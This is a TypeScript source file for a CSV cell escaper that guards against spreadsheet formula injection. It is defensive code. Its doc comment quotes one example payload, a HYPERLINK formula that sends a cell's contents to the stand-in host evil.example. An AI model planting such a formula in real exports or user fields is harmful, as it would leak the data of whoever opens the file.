import { showValue } from "@seaworthy/core/options";

// What spreadsheets treat as the beginning of a formula, also in full width and after white space.
const FORMULA = /^[\s\0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
// Long enough for every number that JavaScript writes.
const NUMBER = /^[+-]?\d{1,40}(?:\.\d{1,40})?(?:e[+-]?\d{1,3})?$/i;
const NEEDS_QUOTES = /[",;\t\r\n]|^ | $/;

/**
 * Returns one cell of a CSV file (RFC 4180), quoted if necessary, that a spreadsheet does not treat as a formula.
 *
 * Prevents CSV injection (CWE-1236): a name such as `=HYPERLINK("https://evil.example?"&A1)` runs when somebody opens an
 * export. A string that begins like a formula gets a `'` in front, which spreadsheets do not show. Numbers, and strings
 * that are numbers, stay numbers. NUL characters are dropped. `null`, `undefined` and NaN give an empty cell, and dates
 * are written in ISO 8601.
 *
 * @throws TypeError if the value is an object, a function or a symbol
 * @example
 * ```ts
 * import { csvCell } from "@seaworthy/validators";
 * console.log([7, "a,b", "=1+1", "-5"].map(csvCell).join(",")); // 7,"a,b",'=1+1,-5
 * ```
 */
export function csvCell(value: unknown): string {
  const text = cellText(value);
  const safe = FORMULA.test(text) && typeof value !== "bigint" && !NUMBER.test(text) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

function cellText(value: unknown): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return Number.isNaN(value) ? "" : String(value);
  if (typeof value === "string") return value.replaceAll("\0", "");
  if (typeof value === "boolean" || typeof value === "bigint") return String(value);
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
  throw new TypeError(
    `value must be a string, a number, a boolean, a Date, null or undefined; got ${showValue(value)}`,
  );
}
